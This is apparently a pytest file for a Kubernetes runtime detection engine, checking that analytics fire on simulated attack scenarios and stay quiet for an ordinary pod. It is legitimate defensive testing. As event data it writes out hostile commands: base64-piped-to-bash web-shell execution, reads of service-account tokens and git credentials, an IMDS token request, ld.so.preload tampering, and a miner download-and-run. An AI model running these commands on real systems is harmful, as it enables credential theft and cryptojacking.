"""Every sensor analytic has a firing case and a near miss; the acceptance scenarios of the reference raise what they must."""

from __future__ import annotations

import base64
import importlib
from pathlib import Path

import pytest
from seawall.detection.engine import Engine
from seawall.domain.runtime_events import FileOpen, ProcessExec, RuntimeEvent

from tests.detection.runtime_events import RULES, asked, dialled, event, ran, read, wrote

PARTS = [path.stem for path in Path(__file__).parent.glob("test_*.py") if path.stem != Path(__file__).stem]


def _cases() -> dict[str, tuple[int, int]]:
    found = {}
    for part in PARTS:
        for rule, (fires, misses) in importlib.import_module(f"{__package__}.{part}").CASES.items():
            found[rule] = (len(fires), len(misses))
    return found


def test_every_analytic_has_both_kinds_of_case():
    cases = _cases()
    assert sorted(RULES.keys() - cases.keys()) == []
    assert [rule for rule, (fires, misses) in cases.items() if not fires or not misses] == []


def _through_page(script: str) -> list[RuntimeEvent]:
    """What a web shell's request looks like that runs `script` base64-encoded."""
    encoded = base64.b64encode(script.encode()).decode()
    return [ran(f"sh -c 'echo {encoded} | base64 -d | bash'", by=["apache2 -k start"])]


BY = ["bash", "sh -c x", "apache2 -k start"]
TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"

SCENARIOS = {
    "reconnaissance": (
        [*_through_page("nmap 10.0.0.0/16"), read(TOKEN, "cat t", by=BY), ran(f"cat {TOKEN}", by=BY), ran("nmap -p 443 10.0.0.0/16", by=BY)],
        {"K8S.NODE_WebShellActivity†", "K8S.NODE_NetworkScanTool†", "K8S.NODE_TokenAccess†", "K8S.NODE_Base64Script†"},
    ),
    "lateral movement": (
        [*_through_page("curl imds"), ran("curl -X PUT http://169.254.169.254/latest/api/token", by=BY), dialled("169.254.169.254", 80, "curl x", by=BY)],
        {"K8S.NODE_WebShellActivity†", "K8S.NODE_ImdsCall", "K8S.NODE_Base64Script†"},
    ),
    "secrets gathering": (
        [*_through_page("find creds"), ran("find / -name .git-credentials", by=BY), read("/root/.git-credentials", "cat c", by=BY), read(TOKEN, "cat t", by=BY),
         ran("bash -c 'env | grep -i token'", by=BY)],
        {"K8S.NODE_WebShellActivity†", "K8S.NODE_SensitiveFileAccess†", "K8S.NODE_SecretRecon†", "K8S.NODE_TokenAccess†"},
    ),
    "crypto mining": (
        [*_through_page("mine"), ran("modprobe msr allow_writes=on", by=BY), wrote("/etc/ld.so.preload", "touch /etc/ld.so.preload", by=BY),
         ran("curl -o /tmp/xmrig https://files.example/xmrig", by=BY), ran("chmod +x /tmp/xmrig", by=BY), ran("/tmp/xmrig", by=BY, drift=True, origin="upper")],
        {"K8S.NODE_WebShellActivity†", "K8S.NODE_CpuOptimization†", "K8S.NODE_LdPreload†", "K8S.NODE_CryptoCoinMinerDownload", "K8S.NODE_DriftDetected†", "K8S.NODE_DigitalCurrencyMining"},
    ),
    "web shell": ([ran("whoami", by=["sh -c whoami", "apache2 -k start"])], {"K8S.NODE_WebShellActivity†"}),
    "threat-intelligence domain": (
        [asked("164e9408d12a701d91d206c6ab192994.info", "curl x", by=BY)], {"K8S_DNS_TestDomain†"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", SCENARIOS)
def test_acceptance_scenario(name):
    events, wanted = SCENARIOS[name]
    engine = Engine(RULES.values())
    raised = {entry for alert in engine.run(events) for entry in RULES[alert.analytic].catalogue}
    assert wanted - raised == set()
    assert not engine.stats.errors


def test_an_ordinary_pod_raises_nothing():
    """Start-up, health checks, configuration and traffic of a web application."""
    by = ["containerd-shim-runc-v2 -id x"]
    events = [
        ran("docker-entrypoint.sh nginx", exe="/bin/sh", by=by, script="/docker-entrypoint.sh"),
        ran("find /docker-entrypoint.d/ -mindepth 1 -type f -print", by=by),
        ran("nginx -g 'daemon off;'", by=by),
        ran("sh -c 'wget -qO- http://localhost:8080/healthz'", by=by, entered=True),
        ran("pg_isready -U app", by=by, entered=True),
        ran("java -jar /app/app.jar --server.port=8080", by=by),
        ran("python /app/manage.py runserver", by=by, script="/app/manage.py"),
        event(FileOpen, "nginx", path="/var/log/nginx/access.log", writes=True),
        event(ProcessExec, "node server.js", by=by),
        read(TOKEN, "app"),
        asked("db.shop.svc.cluster.local"),
        asked("login.microsoftonline.com"),
        dialled("10.96.0.10", 5432),
        dialled("10.96.0.1", 443),
    ]
    engine = Engine(RULES.values())
    assert [(alert.analytic, alert.title) for alert in engine.run(events)] == []
